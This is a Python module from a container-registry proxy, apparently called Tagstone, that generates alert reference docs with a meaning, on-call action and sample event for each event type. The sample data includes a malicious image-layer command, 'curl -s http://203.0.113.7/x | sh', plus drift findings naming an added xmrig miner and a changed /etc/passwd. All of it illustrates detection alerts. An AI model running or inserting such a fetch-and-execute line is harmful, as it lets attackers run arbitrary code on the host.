"""The types of events, for people: what each means, what to do, and how it looks. docs/alerts.md is made from this.

``python -m proxy.sinks.reference docs/alerts.md`` writes what stands between the page's marks anew; a test compares.
"""

from __future__ import annotations

import json
import re
import sys
import uuid
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from proxy.policy.alerts import Alertmanager, Http
from proxy.policy.changes.model import Change, Kind
from proxy.policy.changes.record import details_of
from proxy.sinks import words
from proxy.sinks.alertmanager import AlertmanagerSink
from proxy.sinks.cloudevents import envelope
from storage.classifications import SETTLED
from storage.digest import Digest
from storage.records import ACTS, Event, EventType, Message, Severity, sink_subject

SOURCE = "https://tagstone.example"
_AT = datetime(2026, 3, 14, 9, 26, 53, 589000, tzinfo=UTC)
_IMAGE = "docker.io/library/nginx"
_TAG = f"{_IMAGE}:1.27"
_WHO = "key library (5e0ac5f3c1d2…)"
_MARKED = re.compile(r"(<!-- (\w+) -->\n).*?(<!-- end -->)", re.DOTALL)


_OLD, _NEW, _LAYER = (Digest.of(what) for what in (b"pinned", b"moved", b"layer"))
#: What the examples of overwrites tell of: an attack, and a rebuild.
CHANGE = Change(
    _OLD,
    _NEW,
    (Kind.LAYERS_ADDED, Kind.ENVIRONMENT),
    Severity.CRITICAL,
    ("1 layer added on top, 1.2 MiB: RUN curl -s http://203.0.113.7/x | sh", "environment: HTTP_PROXY"),
)
REBUILD = Change(
    _OLD,
    _NEW,
    (Kind.BASE_REBUILT,),
    Severity.INFO,
    ("the base was rebuilt: lower layers differ, what was done above them is the same (3 of 7 layers are the same)",),
)

#: Where an event is graver, or less grave, than its type.
_OTHERWISE = {
    EventType.TAG_OVERWRITTEN: "when it was compared, that of what changed",
    EventType.TAG_CREATED: "warning where something speaks against it",
    EventType.KEY_EXPIRING: "critical when nothing is left",
}


@dataclass(frozen=True, slots=True)
class Entry:
    """One type: what happened, what whoever is on call does about it, and an event of it."""

    meaning: str
    act: str
    example: Event


def _event(kind: EventType, subject: str, digest: Digest | None, message: str, **details: Any) -> Event:
    return Event(kind, subject, digest, message, _AT, details=details)


def entries() -> Mapping[EventType, Entry]:
    """Every type."""
    pinned, upstream = str(_OLD), str(_NEW)
    moved = f"{_TAG} was overwritten upstream: pinned to {_OLD}, upstream now names {_NEW}"
    held = "it is in its cooldown until 2026-03-17 09:26 UTC"
    waiting = f"{_TAG}: upstream now names {_NEW}, which passes; pinned to {_OLD} until it rotates; {held}"
    told = {
        EventType.TAG_CREATED: Entry(
            "A new tag appeared upstream in a repository that has pins.",
            "Nothing, if a release was due. Whoever can overwrite tags can add some, too.",
            _event(EventType.TAG_CREATED, f"{_IMAGE}:1.28", None, f"{_IMAGE}:1.28 is new upstream", tags=["1.28"]),
        ),
        EventType.TAG_OVERWRITTEN: Entry(
            "The upstream names another digest than the pinned one. Pulls get the pinned one or a refusal, as the rule says.",
            "`tagstone pins diff IMAGE` shows what changed; then `tagstone pins approve` or `reject`. The event ends then, or "
            "when the upstream is back.",
            Event(
                EventType.TAG_OVERWRITTEN,
                _TAG,
                _NEW,
                moved,
                _AT,
                severity=CHANGE.severity,
                details={"pinned": pinned, "upstream": upstream, **details_of(CHANGE), SETTLED: True},
            ),
        ),
        EventType.TAG_REVERTED: Entry(
            "An overwritten or deleted tag names the pinned digest again.",
            "Ask the publisher what happened: somebody had the tag for a while.",
            _event(
                EventType.TAG_REVERTED,
                _TAG,
                _OLD,
                f"{_TAG} is back: the upstream names the pinned digest again, {_OLD}",
                pinned=pinned,
            ),
        ),
        EventType.TAG_DELETED: Entry(
            "The upstream says that a pinned tag is gone. The pinned digest is served on.",
            "Find out whether it was withdrawn for a reason; `tagstone block` if so, `tagstone pins unpin` if nobody needs it.",
            _event(EventType.TAG_DELETED, _TAG, _OLD, f"{_TAG} was deleted upstream; it stays pinned to {_OLD}", pinned=pinned),
        ),
        EventType.TAG_ROTATION_PENDING: Entry(
            "What the upstream names now passes the rule, and the pin will move to it when its cooldown is over, its window "
            "opens or it is approved.",
            "Nothing, or `tagstone pins reject`.",
            _event(
                EventType.TAG_ROTATION_PENDING,
                _TAG,
                _NEW,
                waiting,
                pinned=pinned,
                upstream=upstream,
                due="2026-03-17T09:26:53.589000+00:00",
                approvals_needed=0,
                **details_of(REBUILD),
                settled=True,
            ),
        ),
        EventType.TAG_ROTATED: Entry(
            "The pin moved to another digest, by its rule.",
            "Nothing.",
            _event(
                EventType.TAG_ROTATED,
                _TAG,
                _NEW,
                f'{_TAG} was rotated from {_OLD} to {_NEW} by rule "docker.io/library/**"; vouched for by {_WHO}',
                pinned=pinned,
                upstream=upstream,
            ),
        ),
        EventType.PIN_REVOKED: Entry(
            "A pinned digest no longer passes its rule: a key's time is over, the rule was changed. It is not served any more.",
            "Mend the rule or the trust if that was not meant; else have the image signed anew, or replace it where it runs.",
            _event(
                EventType.PIN_REVOKED,
                _TAG,
                _OLD,
                "a signature by the key library is required; its window ended on 2026-03-01",
                pinned=pinned,
            ),
        ),
        EventType.PIN_STALE: Entry(
            "A candidate that passes has waited for long, for an approval or for its window.",
            "`tagstone pins approve` or `reject`.",
            _event(
                EventType.PIN_STALE,
                _TAG,
                _NEW,
                f"{_TAG} is pinned to {_OLD} still: {_NEW} waits since 2026-03-07 09:26 UTC; it needs 1 more approval (of 1)",
                pinned=pinned,
                upstream=upstream,
            ),
        ),
        EventType.PIN_APPROVED: Entry(
            "An operator approved a digest for a tag.",
            "Nothing.",
            _event(
                EventType.PIN_APPROVED,
                _TAG,
                _NEW,
                f"{_TAG} is pinned to {_NEW} now, which olga approved (before: {_OLD})",
                pinned=pinned,
                upstream=upstream,
                by="olga",
                reason="release 1.27.4",
                approvals=1,
                needed=1,
                moved=True,
            ),
        ),
        EventType.PIN_REJECTED: Entry(
            "An operator said no to what the upstream names now.",
            "Nothing.",
            _event(
                EventType.PIN_REJECTED,
                _TAG,
                _NEW,
                f"olga rejected {_NEW} for {_TAG}, which stays pinned to {_OLD}: not announced",
                pinned=pinned,
                upstream=upstream,
                by="olga",
                reason="not announced",
            ),
        ),
        EventType.PIN_REMOVED: Entry(
            "An operator removed a pin: the next accepted pull pins the tag anew.",
            "Nothing, if it was meant.",
            _event(
                EventType.PIN_REMOVED,
                _TAG,
                _OLD,
                f"olga removed the pin of {_TAG} (it was {_OLD}): retired",
                pinned=pinned,
                by="olga",
                reason="retired",
            ),
        ),
        EventType.SIGNATURE_LOST: Entry(
            "A signature or attestation that a pin leant on is not to be had upstream any more. The pin is served on.",
            "Ask the publisher: signatures are seldom taken away without a reason.",
            _event(
                EventType.SIGNATURE_LOST,
                _TAG,
                _OLD,
                f"{_TAG}: the evidence, by {_WHO}, by which {_OLD} was accepted is not to be had upstream any more; "
                "it passes by what was kept, and is served on",
                pinned=pinned,
                gone=["key library 5e0ac5f3c1d2b7a9"],
                upstream_lacks=["a signature by the key library is required; found: no signature at all"],
            ),
        ),
        EventType.KEY_EXPIRING: Entry(
            "The time of a key that rules name ends soon.",
            "Get the next key and add it to `trust.keys`, before images are refused.",
            _event(
                EventType.KEY_EXPIRING,
                "trust.keys.library",
                None,
                "trust.keys.library: the last key ends on 2026-04-01 23:59 UTC",
                until="2026-04-01T23:59:59.999999+00:00",
            ),
        ),
        EventType.DIGEST_BLOCKED: Entry(
            "An operator blocked a digest: it is refused everywhere, with all that only it reaches.",
            "`tagstone pulls --digest` says who has it.",
            _event(
                EventType.DIGEST_BLOCKED, str(_NEW), _NEW, f"{_NEW} was blocked by olga: backdoor", by="olga", reason="backdoor"
            ),
        ),
        EventType.DIGEST_UNBLOCKED: Entry(
            "An operator took a block back.",
            "Nothing, if it was meant.",
            _event(
                EventType.DIGEST_UNBLOCKED,
                str(_NEW),
                _NEW,
                f"{_NEW} was unblocked by olga: false alarm",
                by="olga",
                reason="false alarm",
            ),
        ),
        EventType.BLOB_TAMPERED: Entry(
            "An upstream, or something on the way to it, sent bytes that do not hash to the digest that was asked for. They were "
            "handed to nobody as a whole. It is over when the right ones have arrived.",
            "Look for a broken or hostile mirror, cache or middlebox between the proxy and the upstream.",
            _event(
                EventType.BLOB_TAMPERED,
                _IMAGE,
                _LAYER,
                f"{_IMAGE} sent a wrong blob: expected {_LAYER}, the bytes hash to {_NEW}",
            ),
        ),
        EventType.BLOB_DAMAGED: Entry(
            "A stored file no longer hashes to its name. It was put into quarantine and is fetched anew.",
            "Check the disk, and who can write to the data directory.",
            _event(EventType.BLOB_DAMAGED, str(_LAYER), _LAYER, f"the stored blob {_LAYER} is damaged: its bytes hash to {_NEW}"),
        ),
        EventType.UPSTREAM_UNREACHABLE: Entry(
            "An upstream does not answer. Pinned tags are served on, nothing new is let in.",
            "Check the network, credentials and the registry's own status page.",
            _event(
                EventType.UPSTREAM_UNREACHABLE,
                "docker.io",
                None,
                "docker.io has answered no question about a tag since 2026-03-14 09:16 UTC: no answer within 20 s",
            ),
        ),
        EventType.UPSTREAM_MISBEHAVING: Entry(
            "An upstream breaks promises of the protocol: digests that do not fit, redirects to where none may lead.",
            "Check what stands between the proxy and the registry; tell the registry's operators.",
            _event(
                EventType.UPSTREAM_MISBEHAVING,
                "docker.io",
                None,
                "docker.io breaks promises of the protocol: it redirects to 10.0.0.7, which is not a public address",
            ),
        ),
        EventType.RUNTIME_DRIFT: Entry(
            "What runs is not what was approved: a container's image, or files or programs that differ from the verified layers.",
            "Take the workload out of service, keep it for an examination.",
            _event(
                EventType.RUNTIME_DRIFT,
                f"{_TAG}@web-1",
                _OLD,
                f"web-1 is not what {_TAG} was approved to be: 2 differences",
                container="web-1",
                command="drift rootfs",
                count=2,
                findings=["added /usr/local/bin/xmrig", "changed /etc/passwd"],
            ),
        ),
        EventType.LEDGER_DAMAGED: Entry(
            "The ledger was changed from outside: an entry does not fit those around it.",
            "Keep the database as it is, and find out who can write to it; `tagstone ledger verify` names the entry.",
            _event(
                EventType.LEDGER_DAMAGED,
                "ledger",
                None,
                "the ledger is damaged at entry 4711: its bytes are not those that were hashed when it was written (see tagstone "
                "ledger verify); no checkpoint is signed until it is mended",
            ),
        ),
        EventType.LEDGER_UNSIGNED: Entry(
            "No checkpoint of the ledger can be signed, because its key is gone, cannot be read, or is being changed by a "
            "command that does not end. Entries are still made.",
            "Restore `ledger.key` in the data directory from a backup; if there is none, `tagstone ledger key rotate --lost`. A "
            "`tagstone ledger key` command that hangs can be ended.",
            _event(
                EventType.LEDGER_UNSIGNED,
                "ledger",
                None,
                "no checkpoint of the ledger is signed: the ledger's key /var/lib/tagstone/ledger.key cannot be read: Permission "
                "denied",
            ),
        ),
        EventType.SINK_FAILING: Entry(
            "A sink does not take alerts: several attempts failed in a row, or it refused one for good. Told to the other sinks.",
            "`tagstone alerts deliveries` says why; when it is mended, `tagstone alerts retry`.",
            _event(
                EventType.SINK_FAILING,
                sink_subject("oncall"),
                None,
                "the alert sink oncall has not taken alerts 5 times in a row: alertmanager.example refuses connections",
                sink="oncall",
                failing_since="2026-03-14T09:26:22+00:00",
            ),
        ),
        EventType.ALERT_TEST: Entry(
            "Somebody tried the sinks with `tagstone alerts test`.",
            "Nothing.",
            _event(EventType.ALERT_TEST, "tagstone", None, "this is a test: alerts of Tagstone arrive here"),
        ),
    }
    return {each: told[each] for each in EventType}


def message_of(event: Event, *, resolved: bool = False) -> Message:
    """A message about an event, the same each time."""
    name = f"{event.type.value} {event.subject} {resolved}"
    at = event.at + timedelta(hours=1) if resolved else event.at
    if resolved:
        event = Event(event.type, event.subject, event.digest, event.message, event.at, at, event.severity, event.details)
    return Message(1, str(uuid.uuid5(uuid.NAMESPACE_URL, name)), 42, event, resolved, at)


def overview() -> str:
    """All types as a table."""
    rows = ["| type | severity | what it is | what happened |", "| --- | --- | --- | --- |"]
    for kind, entry in entries().items():
        severity = Event(kind, "", None, "", _AT).severity
        assert severity is not None
        told = severity.value + (f"; {_OTHERWISE[kind]}" if kind in _OTHERWISE else "")
        what = "act" if kind in ACTS else "state"
        rows.append(f"| [`{kind}`](#{_anchor(kind)}) | {told} | {what} | {entry.meaning} |")
    return "\n".join(rows) + "\n"


def sections() -> str:
    """One section for each type, with an example of its ``data``."""
    parts = []
    for kind, entry in entries().items():
        shown = json.dumps(envelope(message_of(entry.example), SOURCE)["data"], indent=2, ensure_ascii=False)
        parts.append(f"### `{kind}`\n\n{entry.meaning} What to do: {entry.act}\n\n```json\n{shown}\n```\n")
    return "\n".join(parts)


def cloudevent() -> str:
    """A whole event, as it is sent."""
    event = entries()[EventType.TAG_OVERWRITTEN].example
    return _json(envelope(message_of(event), SOURCE))


def alert() -> str:
    """What Alertmanager is sent, when something begins and when it is over."""
    target = Alertmanager(Http("http://alertmanager:9093"), {"team": "platform"})
    event = entries()[EventType.TAG_OVERWRITTEN].example
    sink = AlertmanagerSink(target, SOURCE, 15, user_agent="", clock=event.at.timestamp)
    over = message_of(event, resolved=True).event
    return _json([sink.alert(event, resolved=False)]) + "\n" + _json([sink.alert(over, resolved=True)])


def people() -> str:
    """What people read."""
    message = message_of(entries()[EventType.TAG_OVERWRITTEN].example)
    return f"```text\n{words.title(message)}\n\n{words.text(message)}\n```\n"


_PARTS: Mapping[str, Callable[[], str]] = {
    "overview": overview,
    "sections": sections,
    "cloudevent": cloudevent,
    "alert": alert,
    "people": people,
}


def render(text: str) -> str:
    """``text`` with everything between marks made anew. Raises KeyError for a mark that names nothing."""
    return _MARKED.sub(lambda found: f"{found[1]}{_PARTS[found[2]]()}{found[3]}", text)


def _anchor(kind: EventType) -> str:
    return kind.value.replace(".", "")


def _json(value: object) -> str:
    return f"```json\n{json.dumps(value, indent=2, ensure_ascii=False)}\n```\n"


if __name__ == "__main__":
    page = Path(sys.argv[1])
    page.write_text(render(page.read_text(encoding="utf-8")), encoding="utf-8")
